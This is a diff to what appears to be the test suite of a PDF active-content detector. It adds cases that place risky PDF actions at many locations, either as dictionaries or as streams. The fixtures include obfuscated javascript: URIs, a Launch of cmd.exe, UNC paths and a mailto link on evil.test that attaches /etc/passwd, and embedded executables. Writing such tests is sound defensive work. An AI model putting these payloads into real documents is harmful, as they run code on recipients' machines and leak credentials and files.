@@ -36,28 +36,60 @@ const stream = (dict: string, data: Buffer): Buffer =>
 const hex = (text: string) => `<${Buffer.from(text).toString('hex')}>`;
 const file = stream('/Filter/FlateDecode', deflateSync(Buffer.from('MZ a program')));
 
-const active: [string, Parts][] = [
-  ['a file behind a mark', { ...mark('/Subtype/FileAttachment/FS<</F(invoice.exe)/EF<</F 4 0 R>>>>'), more: [file] }],
-  ['a file of the document', { catalog: '/AF[<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]', more: [file] }],
-  ['a script as address', link('/S/URI/URI(javascript:alert\\(1\\))')],
-  ['a script as address in digits', link(`/S/URI/URI${hex('javascript:app.alert(1)')}`)],
-  ['a script as address in escapes', link('/S/URI/URI(java\\163cript:alert\\(1\\))')],
-  ['a script as address with lines in it', link('/S/URI/URI(java\\nscript:alert\\(1\\))')],
+const actions: [string, string][] = [
+  ['a script as address', '/S/URI/URI(javascript:alert\\(1\\))'],
+  ['a script as address in digits', `/S/URI/URI${hex('javascript:app.alert(1)')}`],
+  ['a script as address in escapes', '/S/URI/URI(java\\163cript:alert\\(1\\))'],
+  ['a script as address with lines in it', '/S/URI/URI(java\\nscript:alert\\(1\\))'],
   [
     'a script as address in 16 bits',
-    link(`/S/URI/URI<FEFF${Buffer.from('javascript:x', 'utf16le').swap16().toString('hex')}>`),
+    `/S/URI/URI<FEFF${Buffer.from('javascript:x', 'utf16le').swap16().toString('hex')}>`,
   ],
-  ['a file as address', link('/S/URI/URI(file:///c:/windows/system32/calc.exe)')],
-  ['a shared folder as address', link('/S/URI/URI(\\\\\\\\evil.test\\\\share)')],
-  ['a page of another document', link('/S/GoToR/F(\\\\\\\\evil.test\\\\share\\\\a.pdf)/D[0/Fit]')],
-  ['a page of a document inside', link('/S/GoToE/T<</R/C/N(x)>>/D[0/Fit]')],
-  ['a program', link('/S/L#61unch/F(cmd.exe)')],
-  ['a film', link('/S/Movie')],
-  ['a film of a newer kind', link('/S/Rendition/OP 0')],
-  ['a command of the reader', link('/S/Named/N/Print')],
-  ['an action that nobody knows yet', link('/S/Teleport')],
-  ['a second action after a harmless one', link('/S/GoTo/D[3 0 R/Fit]/Next<</S/GoToR/F(a.pdf)>>')],
-  ['a third one in a list', link('/S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]>><</S/Movie>>]')],
+  ['a file as address', '/S/URI/URI(file:///c:/windows/system32/calc.exe)'],
+  ['a shared folder as address', '/S/URI/URI(\\\\\\\\evil.test\\\\share)'],
+  ['a user before the host of an address', '/S/URI/URI(https://portal.example@evil.test/)'],
+  ['a mail that carries a file', '/S/URI/URI(mailto:a@evil.test?attach=/etc/passwd)'],
+  ['a page of another document', '/S/GoToR/F(\\\\\\\\evil.test\\\\share\\\\a.pdf)/D[0/Fit]'],
+  ['a page of a document inside', '/S/GoToE/T<</R/C/N(x)>>/D[0/Fit]'],
+  ['a program', '/S/L#61unch/F(cmd.exe)'],
+  ['a film', '/S/Movie'],
+  ['a film of a newer kind', '/S/Rendition/OP 0'],
+  ['a command of the reader', '/S/Named/N/Print'],
+  ['an action that nobody knows yet', '/S/Teleport'],
+  ['an action whose kind is a text', '/S(Movie)'],
+  ['a second action after a harmless one', '/S/GoTo/D[3 0 R/Fit]/Next<</S/GoToR/F(a.pdf)>>'],
+  ['a third one in a list', '/S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]>><</S/Movie>>]'],
+];
+const noData = Buffer.from('x');
+/** Each place at which a reader looks for an action, which is object 4. */
+const places: [string, Parts][] = [
+  ['a mark', mark('/Subtype/Link/A 4 0 R')],
+  ['a mark of an older kind', mark('/Subtype/Link/PA 4 0 R')],
+  ['a list of actions', mark('/Subtype/Link/A[4 0 R]')],
+  ['a chapter', { catalog: '/Outlines<</First<</Title(x)/A 4 0 R>>>>' }],
+  ['the opening', { catalog: '/OpenAction 4 0 R' }],
+  ['an action before it', mark('/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>')],
+];
+/** Each of them as a dictionary, and as a stream, which readers take for its dictionary. */
+const written = actions.flatMap(([what, action]): [string, Parts][] =>
+  places.flatMap(([where, parts]): [string, Parts][] => [
+    [`${what} at ${where}`, { ...parts, more: [`<<${action}>>`] }],
+    [`${what} at ${where}, as a stream`, { ...parts, more: [stream(action, noData)] }],
+  ]),
+);
+/** Harmless as dictionaries: no program writes them as streams. */
+const streams = ['/S/GoTo/D[3 0 R/Fit]', '/S/URI/URI(https://pumps.example/)', '/S 5 0 R'].flatMap((action) =>
+  [...places, ['a place that only a newer reader finds', {}] as const].map(([where, parts]): [string, Parts] => [
+    `${action} as a stream at ${where}`,
+    { ...parts, more: [stream(action, noData), '/GoTo'] },
+  ]),
+);
+
+const active: [string, Parts][] = [
+  ...written,
+  ...streams,
+  ['a file behind a mark', { ...mark('/Subtype/FileAttachment/FS<</F(invoice.exe)/EF<</F 4 0 R>>>>'), more: [file] }],
+  ['a file of the document', { catalog: '/AF[<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]', more: [file] }],
   ['an action as an object of its own', { ...mark('/Subtype/Link/A 4 0 R'), more: ['<</S/Movie>>'] }],
   ['an action that only a newer reader finds', { more: ['<</Type/Action/S/Movie>>'] }],
   ['an action of a chapter', { catalog: '/Outlines<</First<</Title(x)/A<</S/GoToR/F(a.pdf)>>>>>>' }],
@@ -66,6 +98,13 @@ const active: [string, Parts][] = [
   ['a film on the page', mark('/Subtype/Screen')],
   ['a solid body', mark('/Subtype/3D')],
   ['a mark without a kind', mark('')],
+  ['a mark as a stream', { page: '/Annots[4 0 R]', more: [stream('/Subtype/Movie', noData)] }],
+  ['a harmless mark as a stream', { page: '/Annots[4 0 R]', more: [stream('/Subtype/Link', noData)] }],
+  ['marks as a stream', { page: '/Annots 4 0 R', more: [stream('/Subtype/Movie', noData)] }],
+  ['marks in a list of a list', { page: '/Annots[[<</Subtype/Movie>>]]' }],
+  ['one mark without a list', { page: '/Annots<</Subtype/Movie>>' }],
+  ['a page of another document as a picture', { more: ['<</Ref<</F(\\\\\\\\evil.test\\\\a.pdf)/Page 0>>>>'] }],
+  ['a picture in another file', { more: ['<</OPI<</2.0<</F<</UF(\\\\\\\\evil.test\\\\a.tif)>>>>>>>>'] }],
   ['a mark that no page shows', { more: ['<</Type/Annot/Subtype/Movie>>'] }],
 ];
 
@@ -84,6 +123,13 @@ const plain: [string, Parts][] = [
   ],
   ['attributes of a heading', { catalog: '/StructTreeRoot<</K<</S/H1/A<</O/Layout/SpaceBefore 1>>>>>>' }],
   ['a page number style', { catalog: '/PageLabels<</Nums[0<</S/D>>]>>' }],
+  [
+    'a picture that is called A',
+    { page: '/Resources<</XObject<</A 4 0 R>>>>', more: [stream('/Subtype/Form', noData)] },
+  ],
+  ['a table for slow lines', { more: [stream('/S 36', noData)] }],
+  ['a mark that is gone', { page: '/Annots[9 0 R null]' }],
+  ['a page to begin with, by its name', { catalog: '/OpenAction(start)' }],
   ['a remark', mark('/Subtype/Text/Contents(Please check)')],
 ];
 
